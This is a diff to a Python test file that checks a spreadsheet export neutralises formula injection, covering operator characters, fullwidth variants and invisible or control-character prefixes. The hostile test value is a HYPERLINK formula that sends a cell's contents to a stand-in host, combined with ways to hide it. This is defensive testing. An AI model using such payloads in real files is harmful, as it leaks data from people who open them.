@@ -6,6 +6,7 @@ import csv
 import datetime as dt
 import subprocess
 import sys
+import unicodedata
 
 import pytest
 from hypothesis import given
@@ -53,7 +54,20 @@ def passer(**changes: object) -> rules.Passer:
         ("\r=1", "'\r=1"),
         ("张=三", "张=三"),
         ("a-b@example.com", "a-b@example.com"),
-        (" =1", " =1"),
+        (" =1", "' =1"),
+        ("\x01=HYPERLINK(C2)", "'=HYPERLINK(C2)"),
+        ("＝1+1", "'＝1+1"),
+        ("＋1", "'＋1"),
+        ("－1", "'－1"),
+        ("＠A1", "'＠A1"),
+        ("\u200b=1", "'\u200b=1"),
+        ("\u200f\u202e@x", "'\u200f\u202e@x"),
+        ("\ufeff+1", "'\ufeff+1"),
+        ("\u3000=1", "'\u3000=1"),
+        ("\n=1", "'\n=1"),
+        ("\x0b\x1f-1", "'-1"),
+        ("张\x00三", "张三"),
+        ("第一行\n第二行", "第一行\n第二行"),
         ("", ""),
     ],
 )
@@ -64,8 +78,11 @@ def test_cells_that_start_a_formula_are_neutralised(text: str, expected: str) ->
 @given(st.text())
 def test_neutralised_text_never_starts_a_formula_and_keeps_its_content(text: str) -> None:
     result = rules.neutralise(text)
-    assert not result.startswith(rules.FORMULA_STARTS)
-    assert result in (text, "'" + text)
+    cleaned = rules.clean_cell(text)
+    assert result in (cleaned, "'" + cleaned)
+    assert not any(unicodedata.category(ch) == "Cc" and ch not in "\t\n\r" for ch in result)
+    visible = [ch for ch in result if not (ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf"))]
+    assert result.startswith("'") or not visible or visible[0] not in "=+-@＝＋－＠"
 
 
 def test_row_has_the_contract_columns_in_order() -> None:
@@ -238,3 +255,32 @@ def test_domain_modules_import_no_aws_and_load_openpyxl_lazily() -> None:
     )
     found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert found.stdout.strip() == ""
+
+
+# Everything a formula can hide behind, and every operator a spreadsheet runs.
+HIDING_PREFIXES = (
+    *("", " ", "\u3000", "\t", "\r", "\n"),
+    *("\x01", "\x0b", "\x1f", "\x7f"),
+    *("\u200b", "\u200f", "\u202e", "\ufeff", " \x01\u200b"),
+)
+OPERATORS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
+
+
+@pytest.mark.parametrize("operator", OPERATORS)
+@pytest.mark.parametrize("prefix", HIDING_PREFIXES, ids=repr)
+def test_xlsx_holds_no_formula_behind_any_prefix(tmp_path, prefix: str, operator: str) -> None:
+    hostile = f'{prefix}{operator}HYPERLINK("http://x.example/?"&C2,"点击")'
+    period = Period(**{**PERIOD.__dict__, "name": hostile})
+    with rules.ExportFiles(period, tmp_path, "passers") as files:
+        files.add(passer(name=hostile, email=f"{prefix}{operator}x@example.com"))
+        files.finish()
+    sheet = load_workbook(files.xlsx_path).worksheets[0]
+    cells = next(iter(sheet.iter_rows(min_row=2)))
+    assert all(cell.data_type != "f" for cell in cells)
+    for index in (0, 1, 4):
+        value = cells[index].value
+        assert isinstance(value, str) and value.startswith("'"), (index, value)
+        assert not any(unicodedata.category(ch) == "Cc" and ch not in "\t\n\r" for ch in value)
+    with files.csv_path.open(encoding="utf-8-sig", newline="") as stream:
+        csv_row = list(csv.reader(stream))[1]
+    assert all(csv_row[index].startswith("'") for index in (0, 1, 4))
